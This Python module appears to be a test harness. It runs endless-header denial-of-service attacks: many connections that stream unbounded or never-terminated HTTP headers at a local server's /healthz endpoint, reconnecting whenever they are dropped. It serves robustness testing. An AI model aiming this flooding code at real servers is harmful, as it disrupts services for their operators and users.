"""Attacks that go on until their process is ended; `attacker.attacking` starts them."""

from __future__ import annotations

import asyncio
import contextlib
from typing import Final

PIECE: Final = 65536
START: Final = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\n"


def endless_headers(port: int, connections: int) -> None:
    """X1: connections that send one header after the other, and never the last one."""
    line = b"X-More: " + b"x" * 1000 + b"\r\n"
    asyncio.run(_all(connections, _endless, port, START, line * (PIECE // len(line))))


def endless_header(port: int, connections: int) -> None:
    """N05: connections that send one header without end."""
    asyncio.run(_all(connections, _endless, port, START + b"X-Long: ", b"x" * PIECE))


async def _all(connections: int, one: object, *arguments: object) -> None:
    assert callable(one)
    await asyncio.gather(*(one(*arguments) for _ in range(connections)))


async def _endless(port: int, start: bytes, more: bytes) -> None:
    """Again and again, if the server closes the connection."""
    while True:
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(start)
            while True:
                writer.write(more)
                await writer.drain()
                # Others in this process have their turn, even if the server reads at once.
                await asyncio.sleep(0)
